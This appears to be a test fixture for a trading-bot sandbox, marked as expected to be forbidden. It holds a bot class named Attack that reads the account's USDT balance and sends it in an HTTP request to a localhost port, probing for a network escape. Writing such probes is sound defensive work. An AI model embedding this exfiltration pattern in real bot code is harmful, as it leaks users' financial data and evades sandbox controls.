# expect: FORBIDDEN
# category: network
import urllib.request

from bot_sdk import Action, CustomBot


class Attack(CustomBot):
    def execute_algorithm(self, data, timeframe, subscription_config):
        url = f"http://127.0.0.1:{self.config['port']}/?balance={self.get_balance('USDT')}"
        urllib.request.urlopen(url, timeout=2)
        return Action("BUY", 1.0, "ESCAPED: sent a request")
